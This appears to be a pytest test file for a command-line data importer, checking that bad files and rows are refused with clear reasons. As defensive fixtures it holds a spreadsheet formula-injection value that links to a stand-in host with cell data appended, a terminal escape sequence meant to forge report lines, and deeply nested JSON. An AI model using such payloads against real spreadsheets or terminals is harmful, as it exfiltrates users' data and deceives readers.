"""Files that are not what a mapping says, or that mean harm: each is refused in a sentence, or a row of it is."""

from __future__ import annotations

import csv
import json
import re
import tracemalloc
from pathlib import Path

import pytest

from laurels.cli.importing.input_lines import CHUNK_LINES
from laurels.cli.importing.mapping import mapper, report
from laurels.cli.importing.mapping.loader import load_mapping, parse_mapping, text_of_kind
from laurels.cli.terminal import CommandFailed
from tests.cli.importing.mapping.imports import checked

HEAD = "id,user,activity,time\n"
ROW = "1,u-17,ran a program,2026-03-02 09:15:00\n"
WITHIN = text_of_kind("github-events").replace('format = "ndjson"', 'format = "json"\nrows = "data.events"')
LATIN = text_of_kind("table").replace('encoding = "utf-8"', 'encoding = "windows-1252"')
WIDE = text_of_kind("table").replace('encoding = "utf-8"', 'encoding = "utf-16"')


@pytest.mark.parametrize(
    ("text", "content", "told"),
    [
        ("table", "user,activity,time\n", 'lacks the column "id", which eventId reads'),
        (
            "table",
            "id,User,activity,when\n",
            'lacks the column "user", which userId reads, unless "User" is meant; lacks',
        ),
        ("table", "id,user,activity,time,user\n", 'names the column "user" twice'),
        (
            "table",
            HEAD.replace(",", ";"),
            'has semicolons between its columns; say delimiter = ";" under',
        ),
        ("table", HEAD + '1,"' + "x" * 200_000 + '",a,b\n', "line 2: field larger than field limit"),
        ("table", (HEAD + ROW.replace("u-17", "Jos\xe9")).encode("latin-1"), "is not UTF-8 text"),
        ("table", (HEAD + ROW).encode("utf-16"), "is UTF-16 text; save it in UTF-8, or name what it is in the mapping"),
        (WIDE, (HEAD + ROW).encode("utf-8"), "is not UTF-16 text"),
        (
            LATIN,
            (HEAD + ROW).encode("utf-8-sig"),
            "is UTF-8 text by its first bytes, and the mapping says windows-1252",
        ),
        ("table", b"PK\x03\x04 and so on", "is a spreadsheet or an archive"),
        ("table", HEAD + '1,"u-17,a,b\n', "is not valid CSV at line"),
        (WITHIN, '{"events": [], "data": {"event": []}}', "has no list under 'data.events'"),
        (WITHIN, '{"data": {"events": {}}}', "has no list under 'data.events'"),
        (WITHIN, '{"data": {"events": [{"id": "1"}', "array but ends before its last bracket"),
        ("github-events", "-- MySQL dump\nINSERT INTO a VALUES (1);\n", "is an SQL dump"),
    ],
)
async def test_a_file_that_is_none_is_refused_and_says_why(
    tmp_path: Path, text: str, content: str | bytes, told: str
) -> None:
    given = load_mapping(text) if "\n" not in text else parse_mapping(text, "mine.toml")
    file = tmp_path / "file"
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(CommandFailed, match=re.escape(told)) as refused:
        await checked(file, given)
    assert str(refused.value).startswith(f"{file}")


async def test_a_refusal_names_ten_columns_and_counts_the_others(tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_text(",".join([*map(str, range(20_000)), *map(str, range(11))]) + "\n")
    with pytest.raises(CommandFailed) as refused:
        await checked(file, load_mapping("table"))
    told = str(refused.value)
    assert 'names the column "9" twice; names 1 more column twice; lacks the column' in told
    assert '"9" and 20,001 more; the mapping must name those.' in told
    assert len(told) < 1_500


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("1,u-17,ran a program\n", "Has 3 cells for 4 columns"),
        ("1,u-17,ran a program,2026-03-02 09:15:00,x\n", "Has 1 cell beyond the last column"),
        ("1,u\0-17,ran a program,2026-03-02 09:15:00\n", "userId: Must not contain control"),
        ("1,,ran a program,2026-03-02 09:15:00\n", "userId: Is required, and the row says none."),
        ("1," + "u" * 5_000 + ",ran a program,2026-03-02 09:15:00\n", "userId: Must have 1 to 100 characters."),
        ("1,u-17,ran a program,2199-03-02 09:15:00\n", "timestamp: Lies more than 5 minutes in the future"),
        ("1,u-17,ran a program,0001-01-01 00:00:00\n", "timestamp: Lies further back"),
        ("1,u-17,,\n", 'eventType: The mapping has no event type for "". timestamp: Is required: "time" says nothing.'),
    ],
)
async def test_a_row_that_is_none_is_rejected_and_the_others_are_not(tmp_path: Path, line: str, told: str) -> None:
    file = tmp_path / "file"
    file.write_text(HEAD + ROW + line + ROW.replace("1,", "2,", 1))
    done = await checked(file, load_mapping("table"))
    assert done.counts == (2, 0, 1, 0)
    assert told in done.reasons[0]
    assert done.reasons[0].startswith("1 (line 3): ")


@pytest.mark.parametrize(("encoding", "text"), [("windows-1252", LATIN), ("utf-16", WIDE)])
async def test_other_encodings_are_read_where_the_mapping_names_them(tmp_path: Path, encoding: str, text: str) -> None:
    file = tmp_path / "file"
    file.write_bytes((HEAD + ROW.replace("u-17", "Jos\xe9")).encode(encoding))
    done = await checked(file, parse_mapping(text, "mine.toml"))
    assert json.loads(done.tally.samples[0].event)["userId"] == "Jos\xe9"


async def test_a_formula_stays_the_text_that_it_is(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'
    file = tmp_path / "file"
    with file.open("w", newline="") as table:
        csv.writer(table).writerows([[*HEAD.strip().split(","), "language"], [*ROW.strip().split(","), formula]])
    done = await checked(file, load_mapping("table"))
    assert json.loads(done.tally.samples[0].event)["metadata"] == {"language": formula}


async def test_json_that_is_nested_too_deeply_is_rejected_wherever_it_stands(tmp_path: Path) -> None:
    file = tmp_path / "file"
    good = '{"key": "programs-run", "user": {"id": "u-17"}, "timestamp": "2026-03-02T09:30:00Z"}\n'
    # Each depth, since it is not promised at which one a decoder or an encoder gives up.
    deep = ["[" * depth + "]" * depth for depth in (*range(900, 1_010), 50_000)]
    bad = [good.replace('"u-17"', each) for each in deep] + [f'{good[:-2]}, "attributes": {each}}}\n' for each in deep]
    file.write_text(good + "".join(bad))
    done = await checked(file, load_mapping("trophy"))
    assert done.counts == (1, 0, len(bad), 0)


def test_a_text_of_the_file_cannot_look_like_lines_of_the_report(capsys: pytest.CaptureFixture[str]) -> None:
    tally = mapper.Tally()
    tally.rows = 1
    tally.unread = {"a\n0 rejected": None}
    tally.unmapped["b\x1b[2J\n9 recorded"] = 1
    tally.samples.append(mapper.Sample(2, b"x" * 9_000))
    report.say_preview(tally)
    report.say_passed_over(tally)
    shown = capsys.readouterr().out.splitlines()
    assert [line for line in shown if line.startswith(("0 rej", "9 rec")) or "\x1b" in line or len(line) > 600] == []
    assert "         1  b\\u001b[2J 9 recorded" in shown


async def test_a_column_of_free_text_is_not_counted_value_by_value(tmp_path: Path) -> None:
    file = tmp_path / "file"
    rows = mapper.DISTINCT + 30
    file.write_text(HEAD + "".join(f"{number},u-17,did {number},2026-03-02 09:15:00\n" for number in range(rows)))
    done = await checked(file, load_mapping("table"))
    assert len(done.tally.unmapped) == mapper.DISTINCT + 1
    assert done.tally.unmapped[mapper.OTHERS] == 30


async def test_what_stands_before_an_array_is_not_gathered(tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_bytes(b'{"a": "' + b"x" * 16_000_000 + b'", "data": {"events": []}}')
    tracemalloc.start()
    try:
        with pytest.raises(CommandFailed, match=r"has no list under .* in its first 2 MiB"):
            await checked(file, parse_mapping(WITHIN, "mine.toml"))
        assert tracemalloc.get_traced_memory()[1] < 12_000_000
    finally:
        tracemalloc.stop()


async def test_a_line_without_an_end_is_rejected_and_counted(tmp_path: Path) -> None:
    file = tmp_path / "file"
    good = '{"id": "1", "type": "PushEvent", "actor": {"login": "u-17"}, "created_at": "2026-03-02T09:30:00Z"}\n'
    broken = '{"id": "' + "x" * 3_000_000 + '"}\nno json\n'
    # More than are read together.
    lists = "[1]\n" * CHUNK_LINES
    file.write_text(good + broken + lists + good.replace('"1"', '"2"'))
    done = await checked(file, load_mapping("github-events"))
    assert [sample.line for sample in done.tally.samples] == [1, CHUNK_LINES + 4]
    assert (done.recorded, done.tally.rows) == (2, CHUNK_LINES + 4)
    assert [reason.partition(": ")[2] for reason in done.reasons] == [
        "Is longer than 1 MiB.",
        "Is not valid JSON: a line holds one whole object and nothing else.",
        *["Must be an object, not a list."] * CHUNK_LINES,
    ]
